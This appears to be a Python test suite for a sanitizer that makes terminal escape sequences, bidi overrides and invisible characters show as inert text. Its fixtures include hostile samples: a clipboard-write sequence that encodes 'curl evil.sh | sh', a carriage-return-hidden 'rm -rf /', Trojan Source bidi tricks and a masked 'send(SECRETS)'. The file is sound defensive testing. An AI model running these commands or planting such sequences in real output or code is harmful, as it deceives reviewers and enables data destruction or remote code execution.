"""``visible``: what a terminal shows of hostile text is what the text is."""

from __future__ import annotations

import ast
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from harness.safe_text import visible, visible_lines

HIDDEN = {"Cc", "Cf", "Cs", "Zl", "Zp"}

ATTACKS = [
    # ESC/CSI: erase the line, back to column 1, print something else.
    ("x = post_all()  # \x1b[2K\x1b[1G# harmless", "x = post_all()  # \\x1b[2K\\x1b[1G# harmless"),
    # OSC 0: set the window title; OSC 52: write the clipboard (BEL- and ST-terminated).
    ("\x1b]0;pwned\x07", "\\x1b]0;pwned\\x07"),
    ("\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07", "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07"),
    ("\x1b]52;c;QUJD\x1b\\", "\\x1b]52;c;QUJD\\x1b\\"),
    # 8-bit C1 CSI and OSC, which some terminals obey like ESC [ and ESC ].
    ("\x9b2K\x9b1Gok", "\\x9b2K\\x9b1Gok"),
    ("\x9d0;t\x9c", "\\x9d0;t\\x9c"),
    # Carriage return and backspaces overwrite what was printed.
    ("rm -rf /\rls", "rm -rf /\\rls"),
    ("evil\x08\x08\x08\x08good", "evil\\x08\\x08\\x08\\x08good"),
    ("DEL\x7f", "DEL\\x7f"),
    # Trojan Source: bidi overrides and isolates reorder what is shown.
    ("if ok != 'none\u202e \u2066# admin\u2069 \u2066':", "if ok != 'none\\u202e \\u2066# admin\\u2069 \\u2066':"),
    ("\u200e\u200f\u061c", "\\u200e\\u200f\\u061c"),
    # Invisible characters: zero-width space, BOM, tag characters (invisible ASCII), line separator.
    ("a\u200bb\ufeff", "a\\u200bb\\ufeff"),
    ("\U000e0069\U000e0067", "\\U000e0069\\U000e0067"),
    ("one\u2028two", "one\\u2028two"),
    # A lone surrogate (from a script's JSON) cannot even be encoded for the terminal.
    ("\ud800", "\\ud800"),
    # One line by default: a newline cannot start a fake line either.
    ("done\nError: fake", "done\\nError: fake"),
]


@pytest.mark.parametrize(("text", "shown"), ATTACKS)
def test_control_sequences_are_shown_not_obeyed(text: str, shown: str) -> None:
    assert visible(text) == shown
    assert shown.encode("utf-8")  # printable on any UTF-8 terminal, surrogates included


def test_ordinary_text_is_left_alone() -> None:
    text = "naïve café · 東京 ✓ → שלום\tcol [bold]not markup[/] \\x1b is already text"
    assert visible(text) == text
    assert visible_lines("a\tb\nc") == ["a\tb", "c"]


def test_lines_break_where_python_breaks_them() -> None:
    assert visible("a\r\nb\n", lines=True) == "a\nb\n"
    assert visible_lines("a\r\nb\n") == ["a", "b", ""]
    # A lone CR ends a line for Python; on a terminal the next text would overwrite this one.
    source = "send(SECRETS)\r# nothing to see\nx = 1\n"
    shown = visible_lines(source)
    assert shown == ["send(SECRETS)\\r", "# nothing to see", "x = 1", ""]
    # The numbers a reviewer reads are the interpreter's.
    tree = ast.parse(source)
    assert [node.lineno for node in tree.body] == [1, 3]
    assert shown[0].startswith("send(") and shown[2] == "x = 1"
    assert visible("a\x1b[31mb\nc", lines=True) == "a\\x1b[31mb\nc"


def _hidden(text: str, allowed: str) -> list[str]:
    return [c for c in text if unicodedata.category(c) in HIDDEN and c not in allowed]


# Everything, surrogates included, with the attack characters made likely.
ANY_TEXT = st.text(
    st.one_of(
        st.characters(exclude_categories=()),
        st.sampled_from("\x1b\x9b\x9d\x07\r\n\t\x08\x7f\x00\x0c\u202e\u2066\u200b\ufeff\u2028"),
    ),
    max_size=200,
)


@given(ANY_TEXT)
def test_output_never_carries_a_control_character(text: str) -> None:
    one_line = visible(text)
    assert _hidden(one_line, "\t") == []
    assert _hidden(visible(text, lines=True), "\t\n") == []
    one_line.encode("utf-8")  # no lone surrogate survives
    assert visible(one_line) == one_line  # nothing left to escape


@given(st.text(st.characters(exclude_categories=("Cc", "Cf", "Cs", "Zl", "Zp")) | st.just("\t")))
def test_text_without_controls_is_unchanged(text: str) -> None:
    assert visible(text) == text
    assert visible(text, lines=True) == text
